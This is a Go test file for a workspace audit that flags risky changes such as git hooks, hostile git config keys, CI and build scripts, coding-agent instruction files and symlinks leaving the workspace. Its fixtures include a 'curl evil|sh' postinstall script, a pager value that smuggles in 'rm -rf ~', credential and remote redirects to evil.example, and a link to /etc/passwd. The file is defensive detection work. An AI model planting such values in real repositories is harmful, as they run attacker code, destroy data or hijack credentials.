package workspace

import (
	"errors"
	"strings"
	"testing"
)

// memReader serves contents from maps, as the audit's Reader.
type memReader struct{ before, after map[string]string }

func (m memReader) Before(c Change) ([]byte, error) {
	if s, ok := m.before[c.Path]; ok {
		return []byte(s), nil
	}
	return nil, errors.New("not kept")
}

func (m memReader) After(c Change) ([]byte, error) {
	if s, ok := m.after[c.Path]; ok {
		return []byte(s), nil
	}
	return nil, errors.New("missing")
}

func TestAuditRules(t *testing.T) {
	const gitBefore = "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://github.com/org/repo\n"
	cases := map[string]struct {
		c          Change
		before     string
		after      string
		wantReason string // "" = not risky
	}{
		"new git hook":              {c: created(".git/hooks/pre-commit", 0o755), wantReason: "git hook"},
		"changed sample hook":       {c: modified(".git/hooks/pre-push.sample"), wantReason: "git hook"},
		"a clone's sample hook":     {c: created("vendor/lib/.git/hooks/pre-push.sample", 0o755)},
		"a clone's real hook":       {c: created("vendor/lib/.git/hooks/pre-push", 0o755), wantReason: "new executable"},
		"git config hooksPath":      {c: modified(".git/config"), before: gitBefore, after: gitBefore + "[core]\n\thooksPath = /tmp/h\n", wantReason: "core.hookspath"},
		"git config fsmonitor":      {c: modified(".git/config"), before: gitBefore, after: gitBefore + "[core]\nfsmonitor = \"sh -c evil\"\n", wantReason: "core.fsmonitor"},
		"git config sshCommand":     {c: modified(".git/config"), before: gitBefore, after: gitBefore + "[core]\n\tsshCommand = ssh -i x\n", wantReason: "core.sshcommand"},
		"git config pager":          {c: modified(".git/config"), after: "[core]\npager = less; rm -rf ~\n", wantReason: "core.pager"},
		"git config editor":         {c: modified(".git/config"), after: "[core]\neditor = x\n", wantReason: "core.editor"},
		"git config credential":     {c: modified(".git/config"), after: "[credential \"https://github.com\"]\n\thelper = !evil\n", wantReason: "credential"},
		"git config filter":         {c: modified(".git/config"), after: "[filter \"lfs\"]\n\tclean = evil %f\n", wantReason: "filter.lfs.clean"},
		"git config textconv":       {c: modified(".git/config"), after: "[diff \"bin\"]\n\ttextconv = evil\n", wantReason: "diff.bin.textconv"},
		"git config insteadOf":      {c: modified(".git/config"), after: "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n", wantReason: "insteadof"},
		"git config include":        {c: modified(".git/config"), after: "[include]\n\tpath = ../evil\n", wantReason: "include.path"},
		"git config includeIf":      {c: modified(".git/config"), after: "[includeIf \"gitdir:/\"]\n\tpath = ../evil\n", wantReason: "includeif"},
		"git config remote url":     {c: modified(".git/config"), before: gitBefore, after: strings.Replace(gitBefore, "github.com/org", "evil.example/org", 1), wantReason: "remote.origin.url"},
		"git config harmless":       {c: modified(".git/config"), before: gitBefore, after: gitBefore + "[branch \"main\"]\n\tremote = origin\n"},
		"git config unparseable":    {c: modified(".git/config"), after: "[core\n", wantReason: "no longer parses"},
		"gitattributes filter":      {c: created("sub/.gitattributes", 0o644), after: "*.png filter=evil\n", wantReason: "filter=evil"},
		"gitattributes harmless":    {c: created(".gitattributes", 0o644), after: "*.sh text eol=lf\n"},
		"git info":                  {c: created(".git/info/attributes", 0o644), wantReason: "info directory"},
		"alternates":                {c: created(".git/objects/info/alternates", 0o644), wantReason: "redirects git"},
		"commondir":                 {c: created(".git/commondir", 0o644), wantReason: "commondir"},
		"config.worktree hooksPath": {c: created(".git/config.worktree", 0o644), after: "[core]\n\thooksPath = /h\n", wantReason: "core.hookspath"},
		"a worktree's config":       {c: created(".git/worktrees/w/config.worktree", 0o644), after: "[core]\n\tfsmonitor = x\n", wantReason: "core.fsmonitor"},
		"a worktree's gitdir":       {c: modified(".git/worktrees/w/gitdir"), wantReason: "points git at another directory"},
		"legacy remotes":            {c: created(".git/remotes/origin", 0o644), wantReason: "remote definition"},
		"legacy branches":           {c: created(".git/branches/x", 0o644), wantReason: "remote definition"},
		"http alternates":           {c: created(".git/objects/info/http-alternates", 0o644), wantReason: "redirects git"},
		"an unknown name in .git":   {c: created(".git/EVIL", 0o644), wantReason: "git does not make"},
		"a nested repo's config":    {c: created("vendor/x/.git/config", 0o644), after: "[core]\n\tfsmonitor = x\n", wantReason: "core.fsmonitor"},
		"a nested repo's hooksPath": {c: created("a/b/.git/config", 0o644), after: "[core]\n\thooksPath = h\n", wantReason: "core.hookspath"},
		"a nested commondir":        {c: created("vendor/x/.git/commondir", 0o644), wantReason: "commondir"},
		"a submodule's hook":        {c: created(".git/modules/a/b/hooks/pre-commit", 0o644), wantReason: "submodule's git hook"},
		"a submodule's config":      {c: modified(".git/modules/m/config"), after: "[core]\n\tsshCommand = x\n", wantReason: "core.sshcommand"},
		"a submodule's sample hook": {c: created(".git/modules/m/hooks/pre-push.sample", 0o755)},
		"a bare repo's hook":        {c: created("evil/hooks/pre-commit", 0o644), wantReason: "git hook"},
		"a bare repo's alternates":  {c: created("evil/objects/info/alternates", 0o644), wantReason: "redirects git"},
		"a .git file":               {c: created("sub/.git", 0o644), wantReason: "a .git file"},
		"a .git symlink":            {c: link(".git", "evil"), wantReason: "a .git file or link"},
		"a commit's files":          {c: created(".git/objects/ab/cdef", 0o444)},
		"a commit's ref":            {c: modified(".git/refs/heads/main")},
		"a commit's index":          {c: modified(".git/index")},
		"a commit's message":        {c: created(".git/COMMIT_EDITMSG", 0o644)},
		"a lock file":               {c: created(".git/HEAD.lock", 0o644)},
		"a rebase's todo":           {c: created(".git/rebase-merge/git-rebase-todo", 0o644), wantReason: "--continue"},
		"gc's info/refs":            {c: created(".git/info/refs", 0o644)},
		"a removed .git":            {c: Change{Path: ".git", Kind: Deleted, Before: &Entry{Type: TypeDir}}, wantReason: "removes a repository's .git"},
		"a removed HEAD":            {c: Change{Path: "sub/.git/HEAD", Kind: Deleted, Before: &Entry{Type: TypeFile}}, wantReason: "removes a repository's HEAD"},
		"gc's removed loose object": {c: Change{Path: ".git/objects/ab/cdef", Kind: Deleted, Before: &Entry{Type: TypeFile}}},
		"github workflow":           {c: created(".github/workflows/ci.yml", 0o644), wantReason: "CI definition"},
		"gitlab ci":                 {c: modified(".gitlab-ci.yml"), wantReason: "CI definition"},
		"makefile":                  {c: modified("Makefile"), wantReason: "Makefile"},
		"airlock config":            {c: modified(".airlock.yaml"), wantReason: ".airlock.yaml"},
		"new airlock config":        {c: created("sub/.airlock.yaml", 0o644), wantReason: "sandbox settings"},
		"nested makefile":           {c: modified("sub/dir/Makefile"), wantReason: "Makefile"},
		"package.json scripts":      {c: modified("package.json"), before: `{"scripts":{"test":"jest"}}`, after: `{"scripts":{"test":"jest","postinstall":"curl evil|sh"}}`, wantReason: "postinstall"},
		"package.json version only": {c: modified("package.json"), before: `{"version":"1.0.0","scripts":{"test":"jest"}}`, after: `{"version":"1.0.1","scripts":{"test":"jest"}}`},
		"setup.py":                  {c: modified("setup.py"), wantReason: "setup.py"},
		"pyproject backend":         {c: modified("pyproject.toml"), before: "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n", after: "[build-system]\nbuild-backend = \"evil\"\n", wantReason: "build system"},
		"pyproject deps only":       {c: modified("pyproject.toml"), before: "[project]\nname = \"a\"\n[build-system]\nrequires = [\"x\"]\n", after: "[project]\nname = \"b\"\n[build-system]\nrequires = [\"x\"]\n"},
		"envrc":                     {c: created(".envrc", 0o644), wantReason: "direnv"},
		"vscode tasks":              {c: created(".vscode/tasks.json", 0o644), wantReason: "editor"},
		"idea":                      {c: modified(".idea/workspace.xml"), wantReason: "editor"},
		"CLAUDE.md":                 {c: modified("CLAUDE.md"), wantReason: "coding-agent"},
		"nested AGENTS.md":          {c: created("pkg/AGENTS.md", 0o644), wantReason: "coding-agent"},
		".claude settings":          {c: created(".claude/settings.json", 0o644), wantReason: "coding-agent"},
		".cursor rules":             {c: created(".cursor/rules/x.mdc", 0o644), wantReason: "coding-agent"},
		".codex":                    {c: created(".codex/config.toml", 0o644), wantReason: "coding-agent"},
		"bashrc":                    {c: modified(".bashrc"), wantReason: "startup file"},
		"new executable":            {c: created("tools/run.sh", 0o755), wantReason: "new executable"},
		"made executable":           {c: Change{Path: "x.sh", Kind: ModeOnly, Before: &Entry{Type: TypeFile, Mode: 0o644}, After: &Entry{Type: TypeFile, Mode: 0o755}}, wantReason: "new executable"},
		"setuid":                    {c: Change{Path: "bin", Kind: ModeOnly, Before: &Entry{Type: TypeFile, Mode: 0o755}, After: &Entry{Type: TypeFile, Mode: 0o4755}}, wantReason: "setuid"},
		"symlink out (absolute)":    {c: link("l", "/etc/passwd"), wantReason: "outside the workspace"},
		"symlink out (relative)":    {c: link("a/l", "../../x"), wantReason: "outside the workspace"},
		"symlink inside":            {c: link("a/l", "../b")},
		"symlink to the workspace":  {c: link("a/l", "/ws/b")},
		"plain source change":       {c: modified("src/main.go")},
		"deleted hook":              {c: Change{Path: ".git/hooks/pre-commit", Kind: Deleted, Before: &Entry{Type: TypeFile}}},
		"fifo":                      {c: Change{Path: "p", Kind: Created, After: &Entry{Type: TypeOther, Other: "fifo"}}, wantReason: "fifo"},
		"newline in a name":         {c: created("a\nb", 0o644), wantReason: "control characters"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			r := memReader{before: map[string]string{}, after: map[string]string{tc.c.Path: tc.after}}
			if tc.before != "" {
				r.before[tc.c.Path] = tc.before
			}
			got := risks(tc.c, "/ws", r)
			if tc.wantReason == "" {
				if len(got) > 0 {
					t.Fatalf("risks(%q) = %q, want none", tc.c.Path, got)
				}
				return
			}
			if !strings.Contains(strings.Join(got, "\n"), tc.wantReason) {
				t.Fatalf("risks(%q) = %q, want a reason mentioning %q", tc.c.Path, got, tc.wantReason)
			}
		})
	}
}

func created(p string, mode uint32) Change {
	return Change{Path: p, Kind: Created, After: &Entry{Path: p, Type: TypeFile, Mode: mode}}
}

func modified(p string) Change {
	return Change{Path: p, Kind: Modified, Before: &Entry{Path: p, Type: TypeFile, Mode: 0o644}, After: &Entry{Path: p, Type: TypeFile, Mode: 0o644}}
}

func link(p, to string) Change {
	return Change{Path: p, Kind: Created, After: &Entry{Path: p, Type: TypeSymlink, Link: to}}
}

func TestParseGitConfig(t *testing.T) {
	in := `# comment
[core]
	repositoryformatversion = 0
	bare
	Editor = "vim -u NONE" ; trailing comment
[remote "Origin"]
	url = https://example.com/a \
b
[Branch.Main]
	remote = origin
[alias] co = checkout
[x "a\"b"]
	v = "quoted # not a comment"
`
	got, err := ParseGitConfig([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	want := []GitConfigVar{
		{"core.repositoryformatversion", "0"}, {"core.bare", "true"}, {"core.editor", "vim -u NONE"},
		{"remote.Origin.url", "https://example.com/a b"}, {"branch.main.remote", "origin"},
		{"alias.co", "checkout"}, {`x.a"b.v`, "quoted # not a comment"},
	}
	if len(got) != len(want) {
		t.Fatalf("ParseGitConfig = %q, want %q", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("var %d = %q, want %q", i, got[i], want[i])
		}
	}
	for _, bad := range []string{"[core\n", "x = 1\n", "[core]\n1x = 2\n", "[a b]\n"} {
		if _, err := ParseGitConfig([]byte(bad)); err == nil {
			t.Errorf("ParseGitConfig(%q) should fail", bad)
		}
	}
}

// FuzzParseGitConfig: the parser reads hostile files; it must not panic,
// and every key it returns must be one the risk matcher can classify.
func FuzzParseGitConfig(f *testing.F) {
	f.Add([]byte("[core]\n\thooksPath = /x\n"))
	f.Add([]byte("[url \"https://evil/\"]\ninsteadOf = https://github.com/\n"))
	f.Add([]byte("[a \"b\\\"c\"] d = \"e\\\\\" ; f\n"))
	f.Add([]byte("[x]\ny = a\\\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		vars, _ := ParseGitConfig(b)
		for _, v := range vars {
			if !strings.Contains(v.Key, ".") {
				t.Fatalf("key %q has no section", v.Key)
			}
			gitKeyRisk(v.Key)
		}
	})
}
